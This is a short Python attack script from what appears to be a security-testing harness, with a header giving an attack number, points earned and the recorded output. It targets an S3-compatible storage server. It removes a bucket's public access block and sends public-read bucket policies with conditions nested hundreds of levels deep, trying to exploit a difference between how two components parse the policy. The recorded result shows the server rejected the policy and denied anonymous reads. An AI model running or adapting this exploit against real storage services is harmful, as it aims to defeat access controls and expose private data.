# attack: 35
# does: works, and sets policies for everybody, nested as deep as is still read in one place and not in another
# run: finished
# earns: 10
# prints: ['MalformedPolicy'] 403
# with: work
# with: http
import json

work()
place = f"/{given.bucket}-open"
raw("PUT", place)
raw("PUT", f"{place}/a", b"a")
raw("DELETE", f"{place}?publicAccessBlock=")
grant = {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{place[1:]}/*"}
said = set()
for depth in range(1000, 800, -4):
    condition = {"Condition": {"StringLike": {"aws:referer": "@"}}}
    text = json.dumps({"Version": "2012-10-17", "Statement": [grant, grant | condition]})
    text = text.replace('"@"', "[" * depth + '"a"' + "]" * depth)
    status, answer = raw("PUT", f"{place}?policy=", text.encode())
    said.add(answer.partition(b"<Code>")[2].partition(b"<")[0].decode() or status)
print(sorted(said, key=str), raw("GET", f"{place}/a", sign=False)[0])
raw("DELETE", f"{place}/a")
raw("DELETE", place)
